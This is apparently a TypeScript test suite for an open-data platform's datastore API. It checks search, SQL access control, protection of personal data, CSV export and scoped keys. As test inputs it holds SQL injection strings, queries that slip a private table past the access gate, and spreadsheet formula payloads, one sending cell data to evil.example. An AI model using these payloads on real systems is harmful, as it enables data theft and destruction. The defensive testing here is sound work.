import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { testEnv, api, makeUser, makeOrg, datasetInput, STORE_KIND, type TestEnv } from '../helpers.ts';
import { runLoads, search, upload } from './helpers.ts';

let env: TestEnv;
let token: string;
let outsider: string;
let open: string; // resource of open data
let shared: string; // resource of internal data with a personal-data column

const K = `[${STORE_KIND}]`;

before(async () => {
  env = await testEnv({ maxUploadBytes: 10 * 1024 * 1024 });
  await makeOrg(env, 'nso');
  await makeOrg(env, 'other');
  token = (await makeUser(env, 'editor1', { org: 'nso' })).token;
  outsider = (await makeUser(env, 'outsider', { org: 'other' })).token;
  assert.equal((await api(env, 'package_create', datasetInput('nso', { name: 'open' }), { token })).status, 200);
  const internal = await api(env, 'package_create', datasetInput('nso', { name: 'internal', data_category: 'ข้อมูลใช้ภายใน', data_classification: 'ชั้นเผยแพร่ภายในองค์กร', private: true }), { token });
  assert.equal(internal.status, 200, JSON.stringify(internal.json));
  const rows = ['province,year,amount,note'];
  const provinces = ['เชียงใหม่', 'ลำพูน', 'น่าน', 'แพร่'];
  for (let i = 0; i < 40; i++) rows.push(`${provinces[i % 4]},${2560 + (i % 5)},${i},โรงพยาบาลส่งเสริมสุขภาพ ${i}`);
  open = (await upload(env, token, { package_id: 'open', name: 'open' }, 'a.csv', rows.join('\n') + '\n')).id;
  const dict = JSON.stringify([{ name: 'citizen_id', type: 'text', personal_data: true }, { name: 'name', type: 'text' }, { name: 'score', type: 'integer' }]);
  shared = (await upload(env, token, { package_id: 'internal', name: 'people', data_dictionary: dict }, 'p.csv', 'citizen_id,name,score\n1101700203451,สมชาย,10\n3100600123452,สมหญิง,20\n')).id;
  await runLoads(env);
});
after(() => env.close());

test(`${K} datastore_search: filters, q, fields, sort, limit/offset, total, distinct, records formats`, async () => {
  let r = await search(env, { resource_id: open, filters: { province: 'น่าน', year: ['2562', 2567] }, sort: 'amount desc', fields: ['province', 'amount'] });
  assert.equal(r.status, 200, JSON.stringify(r.json));
  assert.deepEqual(r.json.result.records, [{ province: 'น่าน', amount: 22 }, { province: 'น่าน', amount: 2 }]);
  assert.equal(r.json.result.total, 2);
  r = await search(env, { resource_id: open, q: 'โรงพยาบาล', limit: 5, offset: 10, include_total: true });
  assert.equal(r.json.result.records.length, 5);
  assert.equal(r.json.result.records[0].amount, 10);
  assert.equal(r.json.result.total, 40);
  r = await search(env, { resource_id: open, fields: 'province', distinct: true, sort: 'province' });
  assert.equal(r.json.result.records.length, 4);
  assert.equal(r.json.result.total, 4);
  r = await search(env, { resource_id: open, fields: ['province', 'amount'], limit: 2, records_format: 'lists' });
  assert.deepEqual(r.json.result.records, [['เชียงใหม่', 0], ['ลำพูน', 1]]);
  r = await search(env, { resource_id: open, fields: ['province', 'note'], limit: 1, records_format: 'csv' });
  assert.equal(r.json.result.records, 'เชียงใหม่,โรงพยาบาลส่งเสริมสุขภาพ 0\n');
  r = await search(env, { resource_id: open, include_total: false, limit: 1 });
  assert.equal(r.json.result.total, undefined);
});

test(`${K} injection through filters, sort, fields, q and bad values: field-level 409, never a 500, table intact`, async () => {
  const attempts: Array<[Record<string, unknown>, string]> = [
    [{ filters: { 'province" = province; DROP TABLE users; --': 'x' } }, 'filters.province" = province; DROP TABLE users; --'],
    [{ filters: { year: "2560'; DROP TABLE users; --" } }, 'filters.year'],
    [{ filters: { year: { $gt: 1 } } }, 'filters.year'],
    [{ sort: 'amount; DROP TABLE users' }, 'sort'],
    [{ sort: '(SELECT 1)' }, 'sort'],
    [{ sort: 'amount desc nulls first' }, 'sort'],
    [{ fields: ['province', '(select password_hash from users)'] }, 'fields'],
    [{ limit: '1; DROP TABLE users' }, 'limit'],
    [{ records_format: 'xml' }, 'records_format'],
    [{ filters: '{not json' }, 'filters'],
  ];
  for (const [input, field] of attempts) {
    const r = await search(env, { resource_id: open, ...input });
    assert.equal(r.status, 409, `${JSON.stringify(input)} → ${r.status} ${JSON.stringify(r.json)}`);
    assert.ok(r.json.error[field], `${JSON.stringify(input)}: ${JSON.stringify(r.json.error)}`);
  }
  for (const q of ["'; DROP TABLE users; --", "!&|:*()'\\", 'a & b | !c <-> d', '\u0000x'.slice(1)]) {
    const r = await search(env, { resource_id: open, q });
    assert.equal(r.status, 200, `${q}: ${JSON.stringify(r.json)}`);
  }
  const bad = await search(env, { resource_id: "x'; DROP TABLE users; --" });
  assert.equal(bad.status, 404);
  assert.equal((await search(env, { resource_id: open })).json.result.total, 40);
  assert.ok(await env.services.store.db.selectFrom('users').select('id').executeTakeFirst());
});

test(`${K} datastore_search_sql: one SELECT over tables the caller may read; everything else refused clearly`, async () => {
  const sqlq = (sql: string, tk?: string) => api(env, 'datastore_search_sql', { sql }, { token: tk, lang: 'en' });
  let r = await sqlq(`SELECT province, count(*) AS n, sum(amount) AS s FROM "${open}" WHERE year = 2560 GROUP BY province ORDER BY province`);
  assert.equal(r.status, 200, JSON.stringify(r.json));
  assert.deepEqual(r.json.result.records.map((x: any) => [x.province, Number(x.n)]).sort(), [['เชียงใหม่', 2], ['น่าน', 2], ['ลำพูน', 2], ['แพร่', 2]].sort());
  r = await sqlq(`WITH t AS (SELECT * FROM "${open}") SELECT extract(year FROM now()) AS y, count(*) AS n FROM t`);
  assert.equal(r.status, 409, 'now() is not on the allow-list');
  r = await sqlq(`WITH t AS (SELECT amount FROM "${open}") SELECT count(*) AS n FROM t;`);
  assert.equal(r.status, 200, JSON.stringify(r.json));
  const refused = [
    `SELECT * FROM users`,
    `SELECT * FROM public.users`,
    `SELECT * FROM "${open}", users`,
    `SELECT * FROM "${open}" JOIN users ON true`,
    `SELECT * FROM "${open}" WHERE amount IN (SELECT 1 FROM api_tokens)`,
    `SELECT * FROM "${open}"; DELETE FROM users`,
    `DELETE FROM "${open}"`,
    `UPDATE "${open}" SET amount = 0`,
    `SELECT pg_sleep(10) FROM "${open}"`,
    `SELECT query_to_xml('select * from users', true, true, '') FROM "${open}"`,
    `SELECT * FROM "${open}" -- comment`,
    `SELECT * FROM "${open}" /* c */`,
    `SELECT current_setting('data_directory') FROM "${open}"`,
    `SELECT * FROM pg_catalog.pg_user`,
    `SELECT * FROM pg_user`,
    `SELECT $$x$$ FROM "${open}"`,
    `SELECT E'\\x41' FROM "${open}"`,
    `SELECT * INTO stolen FROM "${open}"`,
    `SELECT * FROM "${open}" FOR UPDATE`,
    `SELECT province FROM "${open}" UNION TABLE users`,
    `SELECT 'users'::regclass FROM "${open}"`,
    `SELECT * FROM "${open}" NATURAL JOIN LATERAL (SELECT * FROM sessions) s`,
    `SELECT 1`,
    `SELECT * FROM "${shared}"`,
    `SELECT * FROM "00000000-0000-4000-8000-000000000000"`,
    `SELECT "users".name FROM "${open}"`,
    `SELECT nonexistent FROM "${open}"`,
    ``,
  ];
  for (const s of refused) {
    const x = await sqlq(s);
    assert.ok([409, 404].includes(x.status), `${s} → ${x.status} ${JSON.stringify(x.json)}`);
    if (x.status === 409) assert.ok(x.json.error.sql, JSON.stringify(x.json));
  }
  // The editor may read the shared table (including personal data) by SQL.
  r = await sqlq(`SELECT name FROM "${shared}" ORDER BY score`, token);
  assert.equal(r.status, 200, JSON.stringify(r.json));
  assert.deepEqual(r.json.result.records, [{ name: 'สมชาย' }, { name: 'สมหญิง' }]);
});

test(`${K} datastore_search_sql: a table anywhere in the statement is judged, however the FROM list is written`, async () => {
  // The gate's FROM-list state was one flag for the whole statement: a WHERE inside a sub-select
  // ended it, so `FROM (… WHERE …) s, "<private id>"` read a table nobody had checked (anonymous
  // callers read the private table's personal data). Also ON/USING ended it (`a JOIN b ON x, c`).
  const sqlq = (sql: string) => api(env, 'datastore_search_sql', { sql }, { lang: 'en' });
  const sneaky = [
    `SELECT * FROM (SELECT 1 AS one FROM "${open}" WHERE true LIMIT 1) s, "${shared}"`,
    `SELECT * FROM "${open}" a, LATERAL (SELECT 1 FROM "${open}" WHERE true) l, "${shared}"`,
    `SELECT * FROM "${open}" a JOIN "${open}" b ON a._id = b._id, "${shared}"`,
    `SELECT * FROM "${open}" a JOIN "${open}" b USING (_id), "${shared}"`,
    `SELECT (SELECT name FROM "${shared}" LIMIT 1) AS n FROM "${open}"`,
    `SELECT * FROM "${open}" WHERE amount IN (SELECT score FROM "${shared}")`,
  ];
  for (const s of sneaky) {
    const x = await sqlq(s);
    assert.equal(x.status, 404, `${s} → ${x.status} ${JSON.stringify(x.json).slice(0, 300)}`);
  }
  const others = [
    `SELECT * FROM (SELECT 1 AS one FROM "${open}" WHERE true) s, users`,
    `SELECT * FROM "${open}" a JOIN "${open}" b ON true, users`,
    `SELECT 1 AS x FROM "${open}") s, users x WHERE (true`,
    `SELECT count(*) OVER w FROM "${open}" a, users WINDOW w AS (), users AS ()`,
    `SELECT current_role FROM "${open}"`,
  ];
  for (const s of others) {
    const x = await sqlq(s);
    assert.equal(x.status, 409, `${s} → ${x.status} ${JSON.stringify(x.json).slice(0, 300)}`);
    assert.ok(x.json.error.sql);
  }
  // What the old gate admitted still runs.
  const ok = await sqlq(`SELECT a.province, count(*) AS n FROM "${open}" a JOIN "${open}" b ON a._id = b._id AND b.amount = ANY(ARRAY[1, 2]) GROUP BY a.province ORDER BY a.province`);
  assert.equal(ok.status, 200, JSON.stringify(ok.json));
  const cte = await sqlq(`WITH RECURSIVE t AS (SELECT province AS p FROM "${open}"), u AS NOT MATERIALIZED (SELECT * FROM t) SELECT count(*) AS n FROM u, t WHERE u.p = t.p`);
  assert.equal(cte.status, 200, JSON.stringify(cte.json));
});

test(`${K} records_format csv/tsv: a text cell is never a spreadsheet formula; numbers stay numbers; distinct sorts only by what it selects`, async () => {
  const res = await api(env, 'resource_create', { package_id: 'open', name: 'formula table', url: 'https://example.go.th/f', format: 'CSV' }, { token });
  const id = res.json.result.id;
  const c = await api(env, 'datastore_create', { resource_id: id, fields: [{ id: 'name', type: 'text' }, { id: 'n', type: 'int' }, { id: 'x', type: 'numeric' }], records: [
    { name: '=HYPERLINK("http://evil.example/?"&A1,"click")', n: -5, x: '-1.5' }, { name: '+cmd|/c calc', n: 1, x: 2 }, { name: '@SUM(1)', n: 2, x: 3 }, { name: '-2+3', n: 3, x: 4 }, { name: '\t=1', n: 4, x: 5 },
  ] }, { token, lang: 'en' });
  assert.equal(c.status, 200, JSON.stringify(c.json));
  const csv = await search(env, { resource_id: id, fields: ['name', 'n', 'x'], records_format: 'csv' });
  assert.equal(csv.status, 200, JSON.stringify(csv.json));
  assert.equal(csv.json.result.records, `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-5,-1.5\n'+cmd|/c calc,1,2\n'@SUM(1),2,3\n'-2+3,3,4\n'\t=1,4,5\n`);
  const tsv = await search(env, { resource_id: id, fields: ['name', 'n'], records_format: 'tsv', limit: 2 });
  assert.equal(tsv.json.result.records, `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\t-5\n'+cmd|/c calc\t1\n`);
  // objects and lists answer the value as stored
  assert.equal((await search(env, { resource_id: id, fields: ['name'], limit: 1 })).json.result.records[0].name, '=HYPERLINK("http://evil.example/?"&A1,"click")');
  // SELECT DISTINCT … ORDER BY a field not selected was a 500 (PostgreSQL refuses the statement)
  const d = await search(env, { resource_id: open, fields: 'province', distinct: true, sort: 'amount desc' });
  assert.equal(d.status, 409, JSON.stringify(d.json));
  assert.ok(d.json.error.sort, JSON.stringify(d.json));
  const ok = await search(env, { resource_id: open, fields: ['province', 'year'], distinct: true, sort: 'year desc, province' });
  assert.equal(ok.status, 200, JSON.stringify(ok.json));
  assert.equal(ok.json.result.records[0].year, 2564);
});

test(`${K} visibility: a table is read with the file right; personal data needs read_sensitive of the owner`, async () => {
  assert.equal((await search(env, { resource_id: shared })).status, 404, 'anonymous');
  assert.equal((await search(env, { resource_id: shared }, outsider)).status, 404, 'another organisation');
  const r = await search(env, { resource_id: shared }, token);
  assert.equal(r.status, 200);
  assert.ok(r.json.result.fields.some((f: any) => f.id === 'citizen_id'));
  const info = await api(env, 'datastore_info', { id: shared }, { lang: 'en' });
  assert.equal(info.status, 404);
  // An open table with a personal-data column keeps that column from the public.
  await api(env, 'datastore_create', { resource_id: open, fields: [{ id: 'phone', type: 'text', info: { personal_data: true } }] }, { token });
  const pub = await search(env, { resource_id: open, limit: 1 });
  assert.ok(!pub.json.result.fields.some((f: any) => f.id === 'phone'));
  assert.equal((await search(env, { resource_id: open, fields: ['phone'] })).status, 409);
  assert.equal((await search(env, { resource_id: open, filters: { phone: '1' } })).status, 409);
  assert.ok((await search(env, { resource_id: open, limit: 1 }, token)).json.result.fields.some((f: any) => f.id === 'phone'));
  const s = await api(env, 'datastore_search_sql', { sql: `SELECT phone FROM "${open}"` }, { lang: 'en' });
  assert.equal(s.status, 409);
  // Writes need an editor of the owner.
  assert.equal((await api(env, 'datastore_upsert', { resource_id: open, method: 'insert', records: [{ province: 'x' }] }, { token: outsider })).status, 403);
});

test(`${K} datastore_create / upsert / delete as CKAN clients call them`, async () => {
  const res = await api(env, 'resource_create', { package_id: 'open', name: 'api table', url: 'https://example.go.th/x', format: 'CSV' }, { token });
  const id = res.json.result.id;
  let r = await api(env, 'datastore_create', { resource_id: id, fields: [{ id: 'code', type: 'text', info: { label: 'รหัส' } }, { id: 'n', type: 'int' }, { id: 'd', type: 'date' }], primary_key: ['code'], indexes: 'n', records: [{ code: 'a', n: 1, d: '31/12/2566' }] }, { token, lang: 'en' });
  assert.equal(r.status, 200, JSON.stringify(r.json));
  r = await api(env, 'datastore_upsert', { resource_id: id, records: [{ code: 'a', n: 2 }, { code: 'b', n: 3, d: '2024-01-01' }] }, { token });
  assert.equal(r.status, 200, JSON.stringify(r.json));
  r = await api(env, 'datastore_upsert', { resource_id: id, method: 'update', records: [{ code: 'zz', n: 2 }] }, { token, lang: 'en' });
  assert.equal(r.status, 409);
  r = await api(env, 'datastore_upsert', { resource_id: id, method: 'insert', records: [{ code: 'c', n: 'many' }] }, { token, lang: 'en' });
  assert.equal(r.status, 409);
  assert.ok(r.json.error['records[0].n']);
  r = await api(env, 'datastore_upsert', { resource_id: id, method: 'insert', records: [{ code: 'a', n: 9 }] }, { token, lang: 'en' });
  assert.equal(r.status, 409, 'duplicate key');
  r = await search(env, { resource_id: id, sort: 'code' });
  assert.deepEqual(r.json.result.records.map((x: any) => [x.code, x.n, x.d]), [['a', 2, '2023-12-31'], ['b', 3, '2024-01-01']]);
  r = await api(env, 'datastore_delete', { resource_id: id, filters: { code: 'a' } }, { token });
  assert.equal(r.json.result.deleted, 1);
  r = await api(env, 'datastore_delete', { resource_id: id }, { token });
  assert.equal(r.status, 200);
  assert.equal((await search(env, { resource_id: id })).status, 404);
  r = await api(env, 'datastore_create', { resource_id: id, fields: [{ id: 'Bad Name"', type: 'text' }, { id: 'x', type: 'money' }] }, { token, lang: 'en' });
  assert.equal(r.status, 409);
  assert.ok(r.json.error['fields[0].id'] && r.json.error['fields[1].type']);
});

test(`${K} the no-code API: REST endpoint, OpenAPI page and a key scoped to one resource`, async () => {
  let r = await env.app.inject({ url: `/api/datastore/${open}?province=${encodeURIComponent('แพร่')}&limit=2&fields=province,amount` });
  assert.equal(r.statusCode, 200, r.body);
  assert.deepEqual(r.json().result.records, [{ province: 'แพร่', amount: 3 }, { province: 'แพร่', amount: 7 }]);
  r = await env.app.inject({ url: `/api/datastore/${open}?nosuch=1` });
  assert.equal(r.statusCode, 409);
  const doc = await env.app.inject({ url: `/api/datastore/${open}/openapi.json` });
  assert.equal(doc.statusCode, 200);
  const spec = doc.json();
  assert.equal(spec.openapi, '3.0.3');
  assert.ok(spec.components.schemas.Record.properties.province);
  assert.ok(!spec.components.schemas.Record.properties.phone, 'personal data not described to the public');
  // The shared table: anonymous 404; a scoped key reads it, without the personal-data column, and only it.
  assert.equal((await env.app.inject({ url: `/api/datastore/${shared}` })).statusCode, 404);
  const key = await api(env, 'datastore_api_key_create', { resource_id: shared, name: 'กรมการปกครอง' }, { token });
  assert.equal(key.status, 200, JSON.stringify(key.json));
  r = await env.app.inject({ url: `/api/datastore/${shared}`, headers: { authorization: key.json.result.token } });
  assert.equal(r.statusCode, 200, r.body);
  assert.deepEqual(r.json().result.records.map((x: any) => Object.keys(x).sort()), [['_id', 'name', 'score'], ['_id', 'name', 'score']]);
  assert.equal((await env.app.inject({ url: `/api/datastore/${shared}?citizen_id=1101700203451`, headers: { authorization: key.json.result.token } })).statusCode, 409);
  assert.equal((await env.app.inject({ url: `/api/datastore/${open}`, headers: { authorization: key.json.result.token } })).statusCode, 403, 'another resource');
  const viaApi = await api(env, 'datastore_search', { resource_id: shared }, { token: key.json.result.token });
  assert.equal(viaApi.status, 404, 'the key is not a user token');
  assert.equal((await api(env, 'datastore_api_key_revoke', { resource_id: shared, id: key.json.result.id }, { token })).status, 200);
  assert.equal((await env.app.inject({ url: `/api/datastore/${shared}`, headers: { authorization: key.json.result.token } })).statusCode, 403);
  assert.equal((await api(env, 'datastore_api_key_create', { resource_id: shared }, { token: outsider })).status, 404);
});

test(`${K} datastore_search_sql: on PGlite, whose time-out cannot stop a statement, a plan the planner costs too high is refused before it runs`, { skip: STORE_KIND !== 'pglite' && 'PostgreSQL enforces the statement time-out itself' }, async () => {
  // The organisation's editor: earlier tests mark a column of this table personal, which outsiders may not read.
  const sqlq = (sql: string) => api(env, 'datastore_search_sql', { sql }, { token, lang: 'en' });
  const started = performance.now();
  // 40⁵ = 102,400,000 rows: about 15 s of the embedded store's only connection if it ran.
  const heavy = await sqlq(`SELECT count(*) FROM "${open}" a, "${open}" b, "${open}" c, "${open}" d, "${open}" e`);
  assert.equal(heavy.status, 409, JSON.stringify(heavy.json));
  assert.match(heavy.json.error.sql[0], /too heavy for the embedded store/);
  assert.ok(performance.now() - started < 3000, 'refused from the plan, not after running');
  const fine = await sqlq(`SELECT count(*) AS n FROM "${open}" a, "${open}" b`);
  assert.equal(fine.status, 200, JSON.stringify(fine.json));
  assert.equal(fine.json.result.records[0].n, 1600);
});
